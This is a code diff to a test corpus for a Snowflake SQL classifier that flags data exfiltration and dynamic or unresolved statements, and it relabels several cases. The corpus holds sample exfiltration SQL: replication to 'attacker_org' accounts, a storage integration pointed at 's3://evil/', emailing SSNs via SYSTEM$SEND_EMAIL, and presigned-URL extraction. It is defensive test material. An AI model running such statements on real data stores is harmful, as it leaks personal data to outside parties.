@@ -3,7 +3,7 @@
  * comments, case, whitespace, quoting and multi-statement smuggling, each with the classes and the
  * read/write object sets the classifier must produce (context PIPE.WORK unless `ctx` says otherwise)
  * and its `kind`: what a policy that allows everything by default decides (benign → allowed;
- * exfiltration → exfiltration_denied; dynamic → dynamic_sql_denied; search_path → search_path_denied). Checked by corpus.test.ts.
+ * exfiltration → exfiltration_denied; dynamic → dynamic_sql_denied; search_path → search_path_denied; unresolved → unresolved_object_denied). Checked by corpus.test.ts.
  */
 import type { SessionContext } from '../object-names.js';
 import type { StatementClass } from '../statement-class.js';
@@ -23,7 +23,7 @@ export interface ExpectedStatement {
 export interface CorpusCase {
   name: string;
   tags: string[];
-  kind: 'benign' | 'exfiltration' | 'dynamic' | 'search_path';
+  kind: 'benign' | 'exfiltration' | 'dynamic' | 'search_path' | 'unresolved';
   sql: string;
   ctx?: SessionContext;
   statements: ExpectedStatement[];
@@ -43,9 +43,9 @@ export const CORPUS: CorpusCase[] = [
   { name: "q1-03", kind: "benign", tags: ["query_dml_copy"],
     sql: "SELECT * FROM IDENTIFIER('raw.sales.orders')",
     statements: [{"class":"SELECT","reads":["RAW.SALES.ORDERS"],"writes":[]}] },
-  { name: "q1-04", kind: "benign", tags: ["query_dml_copy"],
+  { name: "q1-04", kind: "unresolved", tags: ["query_dml_copy"],
     sql: "SELECT * FROM IDENTIFIER($tbl)",
-    statements: [{"class":"SELECT","reads":["IDENTIFIER($TBL)"],"writes":[]}] },
+    statements: [{"class":"SELECT","reads":["unresolved://variable_name"],"writes":[]}] },
   { name: "q1-05", kind: "benign", tags: ["query_dml_copy"],
     sql: "SELECT * FROM raw.sales.orders AT(OFFSET => -60) SAMPLE (10)",
     statements: [{"class":"SELECT","reads":["RAW.SALES.ORDERS"],"writes":[]}] },
@@ -55,9 +55,9 @@ export const CORPUS: CorpusCase[] = [
   { name: "q1-07", kind: "benign", tags: ["query_dml_copy"],
     sql: "SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())",
     statements: [{"class":"SELECT","reads":["PIPE.INFORMATION_SCHEMA.QUERY_HISTORY"],"writes":[]}] },
-  { name: "q1-08", kind: "benign", tags: ["query_dml_copy"],
+  { name: "q1-08", kind: "unresolved", tags: ["query_dml_copy"],
     sql: "SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))",
-    statements: [{"class":"SELECT","reads":[],"writes":[]}] },
+    statements: [{"class":"SELECT","reads":["unresolved://result_scan"],"writes":[]}] },
   { name: "q1-09", kind: "benign", tags: ["query_dml_copy"],
     sql: "SELECT $1, $2 FROM @raw.sales.landing/2024/ (FILE_FORMAT => 'csv')",
     statements: [{"class":"SELECT","reads":["@RAW.SALES.LANDING"],"writes":[]}] },
@@ -298,13 +298,13 @@ export const CORPUS: CorpusCase[] = [
   { name: "q2-37", kind: "benign", tags: ["ddl_grant","nested"],
     sql: "CREATE TASK analytics.m.nightly WAREHOUSE = wh SCHEDULE = 'USING CRON 0 2 * * * UTC' AS INSERT INTO analytics.m.t SELECT * FROM raw.s.src",
     statements: [{"class":"CREATE_TASK","reads":[],"writes":["ANALYTICS.M.NIGHTLY"],"inner":[{"class":"INSERT","reads":["RAW.S.SRC"],"writes":["ANALYTICS.M.T"],"via":"body"}]}] },
-  { name: "q2-38", kind: "benign", tags: ["ddl_grant","nested"],
+  { name: "q2-38", kind: "dynamic", tags: ["ddl_grant","nested"],
     sql: "CREATE TASK t_when WAREHOUSE = wh WHEN SYSTEM$STREAM_HAS_DATA('raw.s.st') AS CALL analytics.m.load()",
-    statements: [{"class":"CREATE_TASK","reads":[],"writes":["PIPE.WORK.T_WHEN"],"inner":[{"class":"CALL","reads":["ANALYTICS.M.LOAD"],"writes":[],"via":"body","dynamic":true}]}] },
+    statements: [{"class":"CREATE_TASK","reads":["function://read_only/SYSTEM$STREAM_HAS_DATA"],"writes":["PIPE.WORK.T_WHEN"],"inner":[{"class":"CALL","reads":["ANALYTICS.M.LOAD"],"writes":[],"via":"body","dynamic":true}]}] },
   { name: "q2-39", kind: "benign", tags: ["ddl_grant","nested"],
     sql: "CREATE PIPE raw.sales.orders_pipe AUTO_INGEST = TRUE AS COPY INTO raw.sales.orders FROM @raw.sales.landing",
     statements: [{"class":"CREATE_PIPE","reads":[],"writes":["RAW.SALES.ORDERS_PIPE"],"inner":[{"class":"COPY_INTO_TABLE","reads":["@RAW.SALES.LANDING"],"writes":["RAW.SALES.ORDERS"],"via":"body"}]}] },
-  { name: "q2-40", kind: "benign", tags: ["ddl_grant"],
+  { name: "q2-40", kind: "exfiltration", tags: ["ddl_grant"],
     sql: "CREATE USER etl_bot PASSWORD = 'x' DEFAULT_ROLE = etl",
     statements: [{"class":"CREATE_USER","reads":[],"writes":["ETL_BOT"]}] },
   { name: "q2-41", kind: "benign", tags: ["ddl_grant"],
@@ -346,7 +346,7 @@ export const CORPUS: CorpusCase[] = [
   { name: "q2-53", kind: "exfiltration", tags: ["ddl_grant"],
     sql: "ALTER STORAGE INTEGRATION s3_int SET STORAGE_ALLOWED_LOCATIONS = ('s3://evil/')",
     statements: [{"class":"ALTER_INTEGRATION","reads":[],"writes":["S3_INT","s3://evil/"]}] },
-  { name: "q2-54", kind: "benign", tags: ["ddl_grant"],
+  { name: "q2-54", kind: "exfiltration", tags: ["ddl_grant"],
     sql: "ALTER USER bob SET RSA_PUBLIC_KEY = 'MIIB'",
     statements: [{"class":"ALTER_USER","reads":[],"writes":["BOB"]}] },
   { name: "q2-55", kind: "benign", tags: ["ddl_grant"],
@@ -409,15 +409,15 @@ export const CORPUS: CorpusCase[] = [
   { name: "q3-08", kind: "benign", tags: ["dynamic_session","nested"],
     sql: "EXECUTE IMMEDIATE 'SELECT 1' USING (x)",
     statements: [{"class":"EXECUTE_IMMEDIATE","reads":[],"writes":[],"inner":[{"class":"SELECT","reads":[],"writes":[],"via":"execute_immediate"}]}] },
-  { name: "q3-09", kind: "benign", tags: ["dynamic_session"],
+  { name: "q3-09", kind: "exfiltration", tags: ["dynamic_session"],
     sql: "EXECUTE TASK analytics.m.nightly",
     statements: [{"class":"EXECUTE_TASK","reads":["ANALYTICS.M.NIGHTLY"],"writes":[],"dynamic":true}] },
-  { name: "q3-10", kind: "benign", tags: ["dynamic_session"],
+  { name: "q3-10", kind: "dynamic", tags: ["dynamic_session"],
     sql: "CALL analytics.m.load(1, 'x')",
     statements: [{"class":"CALL","reads":["ANALYTICS.M.LOAD"],"writes":[],"dynamic":true}] },
-  { name: "q3-11", kind: "benign", tags: ["dynamic_session"],
+  { name: "q3-11", kind: "exfiltration", tags: ["dynamic_session"],
     sql: "CALL SYSTEM$SEND_EMAIL('int', 'a@b.c', 'subj', (SELECT listagg(ssn) FROM raw.pii.people))",
-    statements: [{"class":"CALL","reads":["RAW.PII.PEOPLE","SYSTEM$SEND_EMAIL"],"writes":[],"dynamic":true}] },
+    statements: [{"class":"CALL","reads":["RAW.PII.PEOPLE","function://external_calling/SYSTEM$SEND_EMAIL"],"writes":[]}] },
   { name: "q3-12", kind: "benign", tags: ["dynamic_session","nested"],
     sql: "DECLARE\n  total INT;\nBEGIN\n  total := (SELECT COUNT(*) FROM raw.s.orders);\n  INSERT INTO analytics.m.counts VALUES (:total);\n  RETURN total;\nEND;",
     statements: [{"class":"EXECUTE_IMMEDIATE","reads":["RAW.S.ORDERS"],"writes":["ANALYTICS.M.COUNTS"],"inner":[{"class":"SELECT","reads":["RAW.S.ORDERS"],"writes":[],"via":"block"},{"class":"INSERT","reads":[],"writes":["ANALYTICS.M.COUNTS"],"via":"block"}]}] },
@@ -762,10 +762,10 @@ export const CORPUS: CorpusCase[] = [
     statements: [{"class":"SELECT","reads":[],"writes":[]}] },
   { name: "q5-42", kind: "benign", tags: ["context_obfuscated"],
     sql: "SELECT SYSTEM$PIPE_STATUS('raw.s.p')",
-    statements: [{"class":"SELECT","reads":[],"writes":[]}] },
+    statements: [{"class":"SELECT","reads":["function://read_only/SYSTEM$PIPE_STATUS"],"writes":[]}] },
   { name: "q5-43", kind: "benign", tags: ["context_obfuscated"],
     sql: "CALL SYSTEM$WAIT(1)",
-    statements: [{"class":"CALL","reads":["SYSTEM$WAIT"],"writes":[],"dynamic":true}] },
+    statements: [{"class":"CALL","reads":["function://read_only/SYSTEM$WAIT"],"writes":[]}] },
   { name: "q6-01", kind: "exfiltration", tags: ["replication"],
     sql: "ALTER DATABASE raw ENABLE REPLICATION TO ACCOUNTS attacker_org.acct1, attacker_org.acct2",
     statements: [{"class":"ALTER_OTHER","reads":[],"writes":["RAW","account://ATTACKER_ORG.ACCT1","account://ATTACKER_ORG.ACCT2"]}] },
@@ -792,19 +792,19 @@ export const CORPUS: CorpusCase[] = [
     statements: [{"class":"SELECT","reads":["RAW.S.T"],"writes":[]}] },
   { name: "q7-05", kind: "exfiltration", tags: ["obfuscated"],
     sql: "COPY INTO IDENTIFIER($target) FROM raw.pii.people",
-    statements: [{"class":"COPY_INTO_LOCATION","reads":["RAW.PII.PEOPLE"],"writes":["IDENTIFIER($TARGET)"],"dynamic":true}] },
-  { name: "q7-06", kind: "benign", tags: ["obfuscated"],
+    statements: [{"class":"COPY_INTO_LOCATION","reads":["RAW.PII.PEOPLE"],"writes":["unresolved://variable_name"],"dynamic":true}] },
+  { name: "q7-06", kind: "unresolved", tags: ["obfuscated"],
     sql: "COPY INTO IDENTIFIER($target) FROM @raw.s.landing",
-    statements: [{"class":"COPY_INTO_TABLE","reads":["@RAW.S.LANDING"],"writes":["IDENTIFIER($TARGET)"],"dynamic":true}] },
+    statements: [{"class":"COPY_INTO_TABLE","reads":["@RAW.S.LANDING"],"writes":["unresolved://variable_name"],"dynamic":true}] },
   { name: "q7-07", kind: "exfiltration", tags: ["obfuscated"],
     sql: "COPY INTO IDENTIFIER(?) FROM (SELECT * FROM raw.s.t)",
-    statements: [{"class":"COPY_INTO_LOCATION","reads":["RAW.S.T"],"writes":["IDENTIFIER(?)"],"dynamic":true}] },
+    statements: [{"class":"COPY_INTO_LOCATION","reads":["RAW.S.T"],"writes":["unresolved://bind_name"],"dynamic":true}] },
   { name: "q7-08", kind: "exfiltration", tags: ["obfuscated","nested"],
     sql: "SELECT GET_PRESIGNED_URL(@raw.s.landing, 'orders.csv', 3600)",
-    statements: [{"class":"SELECT","reads":["@RAW.S.LANDING"],"writes":[],"inner":[{"class":"GET","reads":["@RAW.S.LANDING"],"writes":[],"via":"presigned_url"}]}] },
+    statements: [{"class":"SELECT","reads":["@RAW.S.LANDING","function://secret_returning/GET_PRESIGNED_URL"],"writes":[],"inner":[{"class":"GET","reads":["@RAW.S.LANDING"],"writes":[],"via":"presigned_url"}]}] },
   { name: "q7-09", kind: "exfiltration", tags: ["obfuscated","nested"],
     sql: "SELECT relative_path, get_presigned_url(@raw.s.docs, relative_path) FROM DIRECTORY(@raw.s.docs)",
-    statements: [{"class":"SELECT","reads":["@RAW.S.DOCS"],"writes":[],"inner":[{"class":"GET","reads":["@RAW.S.DOCS"],"writes":[],"via":"presigned_url"}]}] },
+    statements: [{"class":"SELECT","reads":["@RAW.S.DOCS","function://secret_returning/GET_PRESIGNED_URL"],"writes":[],"inner":[{"class":"GET","reads":["@RAW.S.DOCS"],"writes":[],"via":"presigned_url"}]}] },
   { name: "q7-10", kind: "benign", tags: ["obfuscated"],
     sql: "SELECT util.fn.clean(name), upper(name) FROM raw.s.t",
     statements: [{"class":"SELECT","reads":["RAW.S.T","UTIL.FN.CLEAN"],"writes":[]}] },
